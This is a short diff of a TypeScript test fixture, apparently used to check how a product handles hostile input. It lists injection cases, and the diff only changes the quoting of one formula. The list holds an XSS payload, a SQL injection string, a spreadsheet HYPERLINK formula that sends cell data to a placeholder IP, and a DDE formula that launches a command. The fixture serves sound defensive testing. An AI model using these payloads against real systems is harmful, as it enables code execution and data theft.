@@ -19,7 +19,7 @@ export const HARD_NAMES: readonly HardCase[] = [
   },
   { product: 'crs', bend: (draft) => inject(draft, '"><svg/onload=alert(2)>', "Room 2266' OR '1'='1") },
   { product: 'apc-ups', bend: (draft) => formula(draft, '=HYPERLINK("http://192.0.2.1/?"&A1,"open")') },
-  { product: 'apc-pdu', bend: (draft) => formula(draft, '@SUM(1+1)*cmd|\' /C calc\'!A0') },
+  { product: 'apc-pdu', bend: (draft) => formula(draft, "@SUM(1+1)*cmd|' /C calc'!A0") },
   { product: 'ccr', bend: (draft) => address(draft, '2001:db8:65::17') },
   { product: 'ex', bend: (draft) => address(draft, '2001:db8:66::2:1') },
 ]
